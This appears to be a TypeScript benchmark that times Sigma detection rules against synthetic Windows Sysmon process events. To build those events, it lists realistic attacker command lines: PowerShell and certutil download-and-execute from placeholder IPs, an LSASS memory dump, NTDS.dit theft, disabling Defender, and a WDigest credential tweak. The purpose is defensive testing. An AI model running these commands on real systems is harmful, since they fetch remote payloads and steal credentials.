// CPU time of 0, 50, 500 and all public Sigma rules on Windows process events full of attacks, all rules meeting every
// event.  TAPLINE_SIGMA_RULES=<tar or directory> [TAPLINE_SIGMA_EVENTS=<NDJSON>] node bench/hot/rules.ts
// Without the rules, which are not ours, it says so and makes some up; the same for events.
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { readRules } from "../../src/detect/load.ts";
import { parseRules } from "../../src/detect/parse.ts";
import type { Rule } from "../../src/detect/rule.ts";
import { compileRules } from "../../src/detect/rules.ts";

const rate = (us: number): string => Math.round(1e6 / us).toLocaleString("en-US");

const LIVE = [
  "rules",
  "rules-compliance",
  "rules-emerging-threats",
  "rules-threat-hunting",
  "rules-placeholder",
];
const COUNTS = [0, 50, 500, 3_754];
const ROUND_MS = 300;

let state = 12_345;
/** A number below `max`. */
function below(max: number): number {
  state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
  return Math.floor((state / 4_294_967_296) * max);
}
const pick = <T>(list: readonly T[]): T => list[below(list.length)]!;

const PROGRAMS =
  "powershell cmd rundll32 regsvr32 certutil mshta wmic schtasks reg net wscript bitsadmin".split(" ");
const PARENTS = "explorer winword excel outlook cmd powershell services svchost w3wp wmiprvse".split(" ");
const LINES = [
  "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
  '/c "whoami /all & net group "domain admins" /domain & ipconfig /all" > C:\\Users\\Public\\out.txt',
  "-urlcache -split -f http://203.0.113.7/a.exe C:\\ProgramData\\a.exe",
  'javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.7/x.sct")',
  'process call create "C:\\Windows\\Temp\\b.exe --quiet" /node:10.0.0.5 /user:CORP\\svc-backup',
  '/create /sc minute /mo 5 /tn "Updater" /tr "powershell -c IEX(iwr http://198.51.100.2/p.ps1)" /ru SYSTEM',
  "add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
  "C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full",
  "-Command Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\Temp",
  "/c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\NTDS.dit C:\\Temp\\n.dit",
];
const DIRS = [
  "C:\\Windows\\System32\\",
  "C:\\Windows\\Temp\\",
  "C:\\Users\\Public\\",
  "C:\\Program Files\\App\\",
];
const hex = (chars: number): string =>
  Array.from({ length: chars }, () => "0123456789ABCDEF"[below(16)]).join("");

function madeEvent(): string {
  const [program, parent] = [pick(PROGRAMS), pick(PARENTS)];
  const image = `${pick(DIRS)}${program}.exe`;
  return JSON.stringify({
    EventID: 1,
    Channel: "Microsoft-Windows-Sysmon/Operational",
    Provider_Name: "Microsoft-Windows-Sysmon",
    Computer: `ws-${below(500)}.corp.example`,
    UtcTime: "2026-11-01 10:00:00.000",
    ProcessGuid: `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`,
    ProcessId: below(65_536),
    Image: image,
    OriginalFileName: `${program.toUpperCase()}.EXE`,
    Description: `Windows ${program}`,
    Product: "Microsoft® Windows® Operating System",
    Company: "Microsoft Corporation",
    CommandLine: `"${image}" ${pick(LINES)}`,
    CurrentDirectory: pick(DIRS),
    User: pick(["NT AUTHORITY\\SYSTEM", "CORP\\ann", "CORP\\svc-backup"]),
    LogonId: `0x${hex(6)}`,
    IntegrityLevel: pick(["High", "Medium", "System"]),
    Hashes: `MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`,
    ParentImage: `${pick(DIRS)}${parent}.exe`,
    ParentCommandLine: `"${pick(DIRS)}${parent}.exe" ${below(3) === 0 ? pick(LINES) : "-k netsvcs"}`,
  });
}

/** In the manner of the public ones: a program, words of its command line, and what is left out. */
function madeRule(place: number): string {
  const words = pick(LINES)
    .split(/[ ;,"]+/)
    .filter((word) => word.length > 2);
  const some = (most: number): string[] =>
    Array.from({ length: 1 + below(most) }, () => `${pick(words)}${below(4) === 0 ? "" : hex(3)}`);
  const detection = {
    image: [{ "Image|endswith": `\\${pick(PROGRAMS)}.exe` }, { OriginalFileName: `${hex(6)}.exe` }],
    line: { "CommandLine|contains|all": [pick(words), ...some(3)] },
    other: { "CommandLine|contains": some(12) },
    filter: { "ParentImage|endswith": `\\${pick(PARENTS)}.exe` },
    condition: pick(["image and line", "image and other and not filter", "line", "1 of image and other"]),
  };
  const logsource = { product: "windows", category: "process_creation" };
  return JSON.stringify({ title: `Made up ${place}`, logsource, detection });
}

async function rulesOf(path: string): Promise<Rule[]> {
  let dir = path;
  if (statSync(path).isFile()) {
    dir = mkdtempSync(join(tmpdir(), "tapline-bench-rules-"));
    execFileSync("tar", ["xf", path, "-C", dir]);
  }
  const { rules } = await readRules(LIVE.map((name) => join(dir, name)));
  if (dir !== path) rmSync(dir, { recursive: true });
  return rules;
}

const source = process.env["TAPLINE_SIGMA_RULES"];
if (source === undefined)
  console.log("  RULES MADE UP: TAPLINE_SIGMA_RULES names no public ones (a tar or a directory)");
const read =
  source === undefined
    ? Array.from({ length: COUNTS.at(-1)! }, (_, i) => parseRules(madeRule(i), `made-${i}`).rules[0]!)
    : await rulesOf(source);
// Without the rules on lists that only an inventory defines.
const usable = compileRules(read, { fields: "any" }).rules.map(({ rule }) => rule);
for (let i = usable.length - 1; i > 0; i--) {
  const other = below(i + 1);
  [usable[i], usable[other]] = [usable[other]!, usable[i]!];
}
const file = process.env["TAPLINE_SIGMA_EVENTS"];
const lines =
  file === undefined
    ? Array.from({ length: 512 }, madeEvent)
    : readFileSync(file, "utf8").trim().split("\n").slice(0, 4_096);
const events = lines.map((line) => JSON.parse(line) as never);
const bytes = Math.round(lines.reduce((sum, line) => sum + line.length, 0) / lines.length);
console.log(`  ${lines.length} ${file === undefined ? "made-up" : "given"} events of ${bytes} bytes`);

/** Least µs of CPU an event, of some rounds. */
function time(run: () => void): number {
  const round = (): number => {
    const [start, before] = [performance.now(), process.cpuUsage()];
    let times = 0;
    for (; times === 0 || performance.now() - start < ROUND_MS; times++) run();
    const { user, system } = process.cpuUsage(before);
    return (user + system) / times / events.length;
  };
  round();
  return Math.min(round(), round(), round());
}

for (const count of COUNTS) {
  const set = compileRules(usable.slice(0, count), { fields: "any" });
  const out: number[] = [];
  let matches = 0;
  const alone = time(() => {
    out.length = 0;
    for (let i = 0; i < events.length; i++) set.match(events[i]!, out);
    matches = out.length;
  });
  const parsed = time(() => {
    out.length = 0;
    for (let i = 0; i < lines.length; i++) set.match(JSON.parse(lines[i]!) as never, out);
  });
  console.log(
    `  ${set.rules.length} rules: ${alone.toFixed(2)} µs CPU per event, ${rate(alone)} events/s; ` +
      `with JSON.parse ${parsed.toFixed(2)} µs, ${rate(parsed)} events/s; ` +
      `${(matches / events.length).toFixed(2)} matches an event`,
  );
}
